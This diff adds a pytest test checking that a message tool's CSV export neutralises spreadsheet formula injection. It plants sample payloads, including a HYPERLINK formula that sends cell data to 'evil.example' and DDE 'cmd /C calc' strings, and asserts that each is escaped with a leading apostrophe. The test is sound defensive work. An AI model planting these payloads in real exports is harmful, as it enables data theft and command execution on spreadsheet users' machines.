@@ -285,3 +285,30 @@ def test_bad_database_url_is_one_line(
     code, _, err = run(capsys, "unanswered", "list")
     assert code == 1 and len(err.splitlines()) == 1 and "not supported" in err
     assert "hunter2" not in err
+
+
+def test_csv_export_neutralises_formulas(
+    store: SqlStore, capsys: pytest.CaptureFixture[str]
+) -> None:
+    planted = [
+        '=HYPERLINK("https://evil.example/?x="&A1,"who owns it?")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3",
+        "\t=1+1",
+        "\r=1+1",
+        "who owns the roadmap? =1+1 inside is fine",
+    ]
+    for text in planted:
+        log(store, text, channel_id="C0CSV")
+    code, out, _ = run(capsys, "unanswered", "list", "--format", "csv", "--channel", "C0CSV")
+    assert code == 0
+    rows = list(csv.DictReader(io.StringIO(out, newline="")))
+    assert len(rows) == len(planted)
+    by_text = {r["text"].removeprefix("'"): r["text"] for r in rows}
+    for text in planted[:-1]:
+        assert by_text[text] == "'" + text  # shown as typed, never run as a formula
+    assert by_text[planted[-1]] == planted[-1]
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
